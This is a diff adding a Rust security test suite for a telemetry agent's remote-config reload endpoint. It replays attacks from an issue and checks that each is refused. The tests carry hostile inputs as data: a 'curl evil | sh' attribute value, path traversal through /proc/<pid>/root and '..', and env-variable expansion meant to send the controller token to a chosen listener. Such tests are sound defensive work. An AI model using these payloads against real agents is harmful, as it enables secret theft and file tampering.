@@ -1,0 +1,252 @@
+//! The attacks of issue 14, replayed against the real binaries: a remote
+//! config may change what is measured, never own the node. Each is refused
+//! with the rule and the field, the running config stays, nothing is
+//! written outside the allowed directory and no secret is echoed.
+
+use std::io::Read as _;
+use std::path::Path;
+use std::time::Duration;
+
+use phoenix_tests::{Running, TempDir, binary, free_port, http_get, http_request, wait_for};
+
+/// A value no error text, log line or file may ever contain.
+const SECRET: &str = "s3cr3t-controller-token-0123456789";
+
+/// The node's own config: a file exporter in `dir/out`, `/-/reload` bodies
+/// accepted (as an operator may choose), and a policy that lets remote
+/// configs write under `dir/out` only.
+fn local_config(dir: &Path, telemetry: u16) -> String {
+    format!(
+        "receivers:
+  procfs: {{ collection_interval: 1s }}
+exporters:
+  file: {{ path: \"{out}/local.jsonl\" }}
+service:
+  pipelines:
+    metrics/local: {{ receivers: [procfs], exporters: [file] }}
+  telemetry:
+    address: 127.0.0.1:{telemetry}
+    accept_config_body: true
+  remote_config:
+    file_export_dirs: [\"{out}\"]
+",
+        out = dir.join("out").display()
+    )
+}
+
+/// A remote config: one pipeline through `processors` into `exporter`.
+fn remote(receiver: &str, processors: &str, exporter: &str, service_extra: &str) -> String {
+    format!(
+        "receivers:\n  procfs: {receiver}\n{processors}exporters:\n  {exporter}\nservice:\n  pipelines:\n    metrics/remote: {{ receivers: [procfs], processors: [{}], exporters: [{}] }}\n{service_extra}",
+        if processors.is_empty() {
+            ""
+        } else {
+            "attributes/evil"
+        },
+        exporter.split(':').next().unwrap_or_default()
+    )
+}
+
+fn healthz_hash(port: u16) -> String {
+    let (_, body) = http_get(port, "/healthz").expect("healthz answers");
+    let v: serde_json::Value = serde_json::from_str(&body).expect("healthz is JSON");
+    v["config"]["hash"].as_str().unwrap_or_default().to_string()
+}
+
+struct Node {
+    dir: TempDir,
+    telemetry: u16,
+    agent: Option<Running>,
+}
+
+impl Node {
+    fn start(label: &str) -> Node {
+        let dir = TempDir::new(label);
+        std::fs::create_dir_all(dir.path().join("out")).unwrap();
+        let telemetry = free_port();
+        std::fs::write(
+            dir.path().join("agent.yaml"),
+            local_config(dir.path(), telemetry),
+        )
+        .unwrap();
+        let mut node = Node {
+            dir,
+            telemetry,
+            agent: None,
+        };
+        node.restart();
+        node
+    }
+
+    fn restart(&mut self) {
+        if let Some(agent) = self.agent.take() {
+            agent.stop(Duration::from_secs(15));
+        }
+        let config = self.dir.path().join("agent.yaml");
+        let state = self.dir.path().join("state");
+        self.agent = Some(Running::start_with_env(
+            &binary("phoenix-agent"),
+            &[
+                "--config",
+                config.to_str().unwrap(),
+                "--state-dir",
+                state.to_str().unwrap(),
+            ],
+            &[("PHOENIX_CONTROLLER_TOKEN", SECRET)],
+        ));
+        wait_for(Duration::from_secs(20), || {
+            http_get(self.telemetry, "/readyz").filter(|(s, _)| *s == 200)
+        })
+        .expect("agent ready");
+    }
+
+    /// POST a config body to `/-/reload`: it must be refused with a message
+    /// containing `rule`, leaving the running config and the state dir as
+    /// they were.
+    fn refused(&self, text: &str, rule: &str) -> String {
+        let before = healthz_hash(self.telemetry);
+        let (status, body) =
+            http_request(self.telemetry, "POST", "/-/reload", text).expect("reload answers");
+        assert_eq!(status, 400, "refused: {body}");
+        assert!(body.contains(rule), "names {rule:?}: {body}");
+        assert!(!body.contains(SECRET), "echoes no secret: {body}");
+        assert_eq!(
+            healthz_hash(self.telemetry),
+            before,
+            "the running config stays"
+        );
+        assert!(
+            !self.dir.path().join("state/remote-config.yaml").exists(),
+            "a refused config is not kept"
+        );
+        body
+    }
+}
+
+#[test]
+fn a_reload_body_cannot_write_outside_the_allowed_directory() {
+    let node = Node::start("sec-files");
+    let pid = node.agent.as_ref().unwrap().pid();
+    let out = node.dir.path().join("out");
+
+    // A root-owned script through /proc/<pid>/root, with a shell command as
+    // an attribute: refused, nothing created.
+    let script = format!("/proc/{pid}/root{}/x.sh", out.display());
+    let body = node.refused(
+        &remote(
+            "{ collection_interval: 1s }",
+            "processors:\n  attributes/evil: { actions: [{ action: insert, key: x, value: 'curl evil | sh' }] }\n",
+            &format!("file: {{ path: \"{script}\" }}"),
+            "",
+        ),
+        "exporters::file",
+    );
+    assert!(body.contains("path"), "{body}");
+    assert!(!out.join("x.sh").exists(), "nothing written");
+
+    // Rotation over a file that is not the agent's: refused, intact.
+    let victim = node.dir.path().join("victim.txt");
+    std::fs::write(&victim, "precious\n").unwrap();
+    node.refused(
+        &remote(
+            "{ collection_interval: 1s }",
+            "",
+            &format!(
+                "file: {{ path: \"{}\", rotation: {{ max_megabytes: 1, max_backups: 0 }} }}",
+                victim.display()
+            ),
+            "",
+        ),
+        "policy file_export_dirs",
+    );
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
+
+    // `..` does not climb out either.
+    node.refused(
+        &remote(
+            "{ collection_interval: 1s }",
+            "",
+            &format!("file: {{ path: \"{}/../escaped.jsonl\" }}", out.display()),
+            "",
+        ),
+        "policy file_export_dirs",
+    );
+    assert!(!node.dir.path().join("escaped.jsonl").exists());
+
+    // Inside the directory it applies.
+    let allowed = remote(
+        "{ collection_interval: 1s }",
+        "",
+        &format!("file: {{ path: \"{}/remote.jsonl\" }}", out.display()),
+        "",
+    );
+    let (status, body) =
+        http_request(node.telemetry, "POST", "/-/reload", &allowed).expect("reload answers");
+    assert_eq!(status, 200, "{body}");
+}
+
+#[test]
+fn a_reload_body_cannot_read_secrets_or_send_them_away() {
+    let node = Node::start("sec-env");
+    // The token as a duration: refused by name, never echoed.
+    node.refused(
+        &remote(
+            "{ collection_interval: '${env:PHOENIX_CONTROLLER_TOKEN:-10s}' }",
+            "",
+            "console:",
+            "",
+        ),
+        "policy env",
+    );
+    // The token as a header to a listener of the pusher's choosing.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    node.refused(
+        &remote(
+            "{ collection_interval: 1s }",
+            "",
+            &format!(
+                "otlp_http: {{ endpoint: 'http://127.0.0.1:{port}', headers: {{ authorization: 'Bearer ${{env:PHOENIX_CONTROLLER_TOKEN}}' }} }}"
+            ),
+            "",
+        ),
+        "policy env",
+    );
+    std::thread::sleep(Duration::from_secs(2));
+    if let Ok((mut stream, _)) = listener.accept() {
+        let mut got = String::new();
+        let _ = stream.read_to_string(&mut got);
+        panic!("the listener was contacted: {got}");
+    }
+    let agent = node.agent.unwrap();
+    let output = agent.stop(Duration::from_secs(15));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("reload rejected"), "{stderr}");
+    assert!(
+        !stderr.contains(SECRET),
+        "the log echoes no secret: {stderr}"
+    );
+}
+
+#[test]
+fn a_reload_body_cannot_open_the_reload_endpoint_for_good() {
+    let mut node = Node::start("sec-telemetry");
+    let open = remote(
+        "{ collection_interval: 1s }",
+        "",
+        "console:",
+        &format!(
+            "  telemetry: {{ address: 127.0.0.1:{}, remote_reload: true, accept_config_body: true }}\n",
+            node.telemetry
+        ),
+    );
+    let local = healthz_hash(node.telemetry);
+    node.refused(&open, "service.telemetry is local-only");
+    // A kept config that an older agent accepted is held to the policy at
+    // start: the local file runs, and the endpoint stays as it says.
+    std::fs::create_dir_all(node.dir.path().join("state")).unwrap();
+    std::fs::write(node.dir.path().join("state/remote-config.yaml"), &open).unwrap();
+    node.restart();
+    assert_eq!(healthz_hash(node.telemetry), local, "the local config runs");
+}
